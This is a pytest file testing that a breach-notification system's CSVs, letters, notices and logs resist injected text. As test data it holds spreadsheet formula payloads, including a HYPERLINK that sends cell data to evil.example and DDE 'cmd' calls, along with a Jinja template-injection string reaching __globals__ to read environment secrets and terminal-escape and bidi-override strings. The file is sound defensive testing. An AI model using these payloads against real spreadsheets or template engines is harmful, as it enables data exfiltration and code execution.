"""Safe outputs (issue 14, item 9): what the project writes for other people's programs and
eyes cannot be turned against them by the text it was given.

* CSV cells a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``, tab, carriage
  return) are written with a leading single quote (OWASP), in every CSV of a round, of
  returned mail and of the tracking reports, while recipient keys and counts stay exact;
* templates render in Jinja's sandbox: one reaching ``__globals__`` is refused;
* control and bidirectional-override characters from reports and rosters never reach a
  letter, a notice or a CSV, and the round's error report counts what was removed;
* an exception in the intake route is logged without its local variables, so no report
  field reaches a log line.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import shutil
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
import structlog
from fastapi.testclient import TestClient

from activities.notify.closing import substitute_notice
from activities.notify.letters import TEMPLATE_DIR, LetterError, Letters
from activities.notify.lookup import find_round, letter_for_record
from activities.notify.person import COLUMNS
from activities.notify.returned import process_returned
from activities.notify.samples import SAMPLE_RECIPIENTS, sample_facts
from models.mailing import LetterVariant
from tests.support import REPORTS
from tests.test_notify_common import exporter, read_rows, request

FORMULA_START = re.compile(r"^[=+\-@\t\r]")
KEY = re.compile(r"^[0-9a-f]{32}$")
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def person(n: int, **fields) -> dict[str, str]:
    """One roster row: an adult with an address in Maryland unless ``fields`` say otherwise."""
    row = {c: "" for c in COLUMNS} | {
        "record_id": f"R{n:04d}", "first_name": f"First{n}", "last_name": f"Last{n}", "date_of_birth": "1960-01-02",
        "ssn": f"123-45-{n:04d}", "address_line1": f"{n} Main Street", "city": "Baltimore", "state": "MD", "zip": "21201",
        "language": "en", "large_print": "false", "is_minor": "false", "deceased": "false",
    }
    return row | fields


def write_roster(path: Path, rows: list[dict[str, str]]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", newline="", encoding="utf-8") as fh:
        out = csv.DictWriter(fh, fieldnames=COLUMNS)
        out.writeheader()
        out.writerows(rows)
    return path


def cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def assert_no_formula(path: Path) -> None:
    for row in cells(path):
        for cell in row:
            assert not FORMULA_START.match(cell), f"{path.name}: the cell {cell!r} would run as a formula"


FORMULAS = [
    person(1, first_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")', last_name="+Smith"),
    person(2, address_line1="-2+3+cmd|' /C calc'!A0", city="@SUM(A1:A9)"),
    person(3, first_name="@Ann", is_minor="true", date_of_birth="2015-05-05", guardian_name="=Guardian()"),
    person(4, address_line1="", city="", zip="", state="", phone="+1-410-555-0100", email="-x@example.com"),
    person(5, record_id="=R0005", ssn="not-an-ssn"),  # refused: its record id goes to the error report
]


def test_a_roster_of_formulas_is_exported_safely(tmp_path):
    roster = write_roster(tmp_path / "rosters" / "formulas.csv", FORMULAS + [person(n) for n in range(10, 20)])
    for fast in (True, False):
        result = exporter(tmp_path, fast=fast).run(request(f"file://{roster}", out=f"out-{fast}", breach=f"B-{fast}"))
        for ref in (result.export, result.no_address_list, result.error_report):
            assert_no_formula(Path(ref.path))
        export = read_rows(Path(result.export.path))
        unreachable = read_rows(Path(result.no_address_list.path))
        # Recipient keys stay exact (hex, never prefixed) and counts match the files' rows.
        assert all(KEY.match(r["recipient_key"]) for r in export + unreachable)
        assert (result.counts.exported, result.counts.unreachable, result.counts.errors) == (len(export), len(unreachable), 1)
        assert result.counts.rows_read == 15 and result.counts.recipients == 14
        first = next(r for r in export if r["record_id"] == "R0001")
        assert first["address_line_1"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click") +Smith'
        second = next(r for r in export if r["record_id"] == "R0002")
        assert (second["address_line_2"], second["address_line_3"]) == ("'-2+3+cmd|' /C calc'!A0", "'@SUM(A1:A9) MD 21201")
        guardian = next(r for r in export if r["record_id"] == "R0003")
        assert guardian["address_line_1"] == "'=Guardian()"
        nobody = next(r for r in unreachable if r["record_id"] == "R0004")
        assert (nobody["phone"], nobody["email"]) == ("'+1-410-555-0100", "'-x@example.com")
        assert read_rows(Path(result.error_report.path))[0]["record_id"] == "'=R0005"
    # The round's own readers take the quote off again: the on-demand letter names the person as given.
    found = find_round(tmp_path / "out-True")
    letter = letter_for_record(Letters(), found, "R0001")
    assert '=HYPERLINK("http://evil.example/?x="&A1,"Click") +Smith' in letter.text and "'=HYPERLINK" not in letter.text
    # Returned mail: the addendum and the unmatched report are neutralised as well.
    returned = tmp_path / "rosters" / "returned.csv"
    returned.write_text(f"recipient_key\n{letter.recipient_key}\n=HYPERLINK(\"http://evil.example\")\n")
    back = process_returned(Letters(), found, returned)
    assert_no_formula(Path(back.addendum.path))
    assert_no_formula(Path(back.unmatched.path))
    assert read_rows(Path(back.addendum.path))[0]["recipient_key"] == letter.recipient_key


def test_the_tracking_csv_neutralises_text_and_keeps_its_counts():
    from starter.tracking import formats
    from starter.tracking.periods import Period
    from starter.tracking.reports import CaseLine, Totals, TrackingReport

    line = CaseLine(
        breach_id="api-INC-1", opened_at=datetime(2026, 1, 2, tzinfo=UTC), closed_at=None, status="ongoing", stage="notify",
        outcome=None, risk_level="high", individuals=12, individuals_notified=0, data_elements=("name",), notified=False,
        services=("=cmd|' /C calc'!A0", "-credit_monitoring"), services_provided=False, reported_to_cisa=False,
        reported_to_congress=False, major_incident=False,
    )
    period = Period("FY2026", datetime(2025, 10, 1, tzinfo=UTC), datetime(2026, 10, 1, tzinfo=UTC))
    report = TrackingReport("cases", "Cases", period, None, datetime(2026, 2, 1, tzinfo=UTC), [line], Totals.of([line]))
    rows = list(csv.DictReader(io.StringIO(formats.to_csv(report))))
    for row in rows:
        assert not any(FORMULA_START.match(v) for v in row.values())
    assert rows[0]["services"] == "'=cmd|' /C calc'!A0;-credit_monitoring"
    assert [r["individuals"] for r in rows] == ["12", "12"]  # counts are numbers, written as they are


def test_a_template_reaching_globals_is_refused(tmp_path, monkeypatch):
    monkeypatch.setenv("BREACH_TEST_PAYLOAD_KEY", "payload-key-canary-5f1e")
    templates = tmp_path / "templates"
    shutil.copytree(TEMPLATE_DIR, templates)
    adult = templates / "en" / "letter.txt.j2"  # the letter every variant extends
    attack = "{{ lang.format_date.__globals__['__builtins__']['__import__']('os').environ['BREACH_TEST_PAYLOAD_KEY'] }}\n"
    adult.write_text(adult.read_text() + attack)
    with pytest.raises(LetterError, match="unsafe"):
        Letters(templates).render(sample_facts(), SAMPLE_RECIPIENTS[LetterVariant.adult])
    notice = templates / "en" / "substitute-notice.txt.j2"
    notice.write_text(notice.read_text() + "{{ facts.__class__.__init__.__globals__ }}\n")
    with pytest.raises(LetterError, match="unsafe"):
        substitute_notice(Letters(templates), sample_facts(), ["en"], ["MD"], breach_id="B", round=1, follow_up=False)


BIDI_SUMMARY = "A laptop was stolen \u202eekil skool ti\u202c from a car\x1b[2J; the thief \x07was not found."


def test_control_and_bidi_characters_are_removed_from_letters_and_notices(tmp_path):
    facts = sample_facts().model_copy(update={"what_happened": BIDI_SUMMARY})
    names = [person(n, first_name="Ann\u202eeM", last_name="Lee\x1b]0;x\x07") for n in range(1, 3)]
    unreachable = [person(n, address_line1="", city="", zip="", state="", last_name="\u2066Far\u2069") for n in range(10, 21)]
    roster = write_roster(tmp_path / "rosters" / "bidi.csv", names + unreachable)
    result = exporter(tmp_path).run(request(f"file://{roster}").model_copy(update={"facts": facts}))
    assert result.substitute_notice is not None
    for ref in (result.export, result.no_address_list, result.error_report, result.substitute_notice, result.call_center_sheet):
        text = Path(ref.path).read_text(encoding="utf-8")
        assert not UNSAFE.search(text), f"{Path(ref.path).name} holds {UNSAFE.search(text)[0]!r}"
    notice = Path(result.substitute_notice.path).read_text(encoding="utf-8")
    assert "A laptop was stolen ekil skool ti from a car[2J; the thief was not found." in notice
    first = next(r for r in read_rows(Path(result.export.path)) if r["record_id"] == "R0001")
    assert first["address_line_1"] == "AnneM Lee]0;x"
    # The removals are counted in the round's error report and its counts, not hidden.
    report = read_rows(Path(result.error_report.path))
    assert {"row": "", "record_id": "", "problem": "letter facts: 4 control or bidirectional-override characters removed"} in report
    assert {"row": "1", "record_id": "R0001", "problem": "3 control or bidirectional-override characters removed"} in report
    assert result.counts.characters_removed == 4 + 3 * 2 + 2 * 11 and result.counts.errors == 0
    assert result.error_report.rows == len(report) == 1 + 2 + 11
    # A letter rendered for one of them (on demand) is clean too, facts and name alike.
    letter = letter_for_record(Letters(), find_round(tmp_path / "out"), "R0001")
    assert not UNSAFE.search(letter.text) and "AnneM Lee]0;x" in letter.text and "from a car[2J;" in letter.text
    # And so is any letter rendered straight from text with such characters (the preview, a check).
    odd = replace(SAMPLE_RECIPIENTS[LetterVariant.adult], first_name="\x1bAl\u202eex")
    assert not UNSAFE.search(Letters().render(facts, odd))


# ------------------------------------------------------------------ logs

CANARY = "Canary-Reporter-7c1f9e"


@pytest.mark.parametrize("fmt", ["console", "json"])
def test_no_report_field_reaches_a_log_line_when_the_intake_route_fails(tmp_path, monkeypatch, capsys, caplog, fmt):
    from starter.intake import http_api
    from starter.intake.service import IntakeService
    from worker.config import Settings
    from worker.logs import configure

    configure(fmt)
    monkeypatch.setattr(http_api, "log", structlog.get_logger("breach.api"))  # the module's logger, with this configuration
    service = IntakeService(Settings(data_dir=tmp_path), client=None, inventory={})
    token = service.tokens.create("canary-test")

    async def failing_accept(report):
        reporter, summary = report.reported_by.name, report.summary  # locals a traceback with locals would print
        raise RuntimeError(f"filing failed for a report of {len(reporter) + len(summary)} characters")

    monkeypatch.setattr(service, "accept", failing_accept)
    doc = json.loads((REPORTS / "laptop-claims-major.json").read_text())
    doc["external_id"] = "CANARY-1"
    doc["reported_by"]["name"] = CANARY
    doc["summary"] = f"{CANARY} summary {CANARY}"
    caplog.set_level(logging.DEBUG)
    try:
        with TestClient(http_api.create_app(service), raise_server_exceptions=False) as client:
            answer = client.post("/v1/breaches", json=doc, headers={"Authorization": f"Bearer {token}"})
    finally:
        structlog.reset_defaults()
    assert answer.status_code == 500
    out = capsys.readouterr()
    logged = out.err + out.out + caplog.text + "".join(str(r.exc_info) for r in caplog.records)
    assert "request failed" in out.err and "RuntimeError" in out.err and "filing failed" in out.err  # the exception is logged
    assert CANARY not in logged
